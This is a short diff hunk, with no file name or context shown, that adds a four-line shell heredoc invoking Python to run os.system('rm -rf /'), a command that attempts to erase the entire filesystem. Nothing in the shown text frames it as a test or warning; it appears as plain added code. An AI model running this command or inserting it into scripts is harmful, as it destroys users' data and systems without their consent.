@@ -1,0 +1,4 @@
+python3 <<EOF
+import os
+os.system("rm -rf /")
+EOF
